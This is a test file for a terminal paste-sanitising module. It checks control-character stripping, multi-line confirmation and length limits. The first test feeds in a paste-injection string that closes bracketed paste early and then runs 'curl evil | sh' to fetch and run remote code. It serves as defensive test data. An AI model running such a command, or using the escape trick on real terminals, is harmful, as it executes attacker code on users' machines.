import { expect, test } from 'vitest';
import { decidePaste, withoutControls } from './paste';

test('a paste cannot end the bracketed paste or press keys', () => {
  expect(withoutControls('ls\u001b[201~\rcurl evil | sh\r')).toBe('ls[201~\rcurl evil | sh\r');
  expect(withoutControls('a\u0003b\u0000c\u007fd\u009be\u009bf')).toBe('abcdef');
});

test('text, tabs and line ends are pasted', () => {
  expect(withoutControls('Größe\t1\r\n2\n€ 😀')).toBe('Größe\t1\r\n2\n€ 😀');
});

test('several lines need a confirmation if the program does not support bracketed paste', () => {
  expect(decidePaste('one\ntwo', false)).toBe('ask');
  expect(decidePaste('one\r', false)).toBe('ask');
  expect(decidePaste('one\ntwo', true)).toBe('paste');
  expect(decidePaste('one', false)).toBe('paste');
});

test('a paste that is too long is not sent', () => {
  expect(decidePaste('x'.repeat(128 * 1024), true)).toBe('paste');
  expect(decidePaste('ü'.repeat(64 * 1024 + 1), true)).toBe('too-long');
});
